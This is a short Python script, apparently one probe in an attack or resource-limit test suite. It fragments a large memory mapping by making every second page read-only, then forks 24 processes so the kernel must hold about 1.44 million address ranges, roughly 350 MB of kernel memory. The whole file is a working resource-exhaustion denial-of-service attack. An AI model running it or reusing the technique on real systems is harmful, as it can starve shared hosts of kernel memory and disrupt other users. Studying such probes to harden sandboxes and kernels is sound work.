import ctypes
import time

from attack import *

libc.mmap.restype, libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
PAGE, PAGES = 4096, 60_000

# Every second page may not be written: a range of addresses for each, which forks copy.
start = libc.mmap(None, PAGE * PAGES, 3, 0x22 | 0x4000, -1, 0)
failed = sum(libc.mprotect(start + PAGE * page, PAGE, 1) for page in range(0, PAGES, 2))
if failed == 0:
    swarm(24, lambda done: None)
    time.sleep(4)  # to count them takes a second
    print("REACHED: the kernel keeps 1,440,000 ranges of addresses, some 350 MB", flush=True)
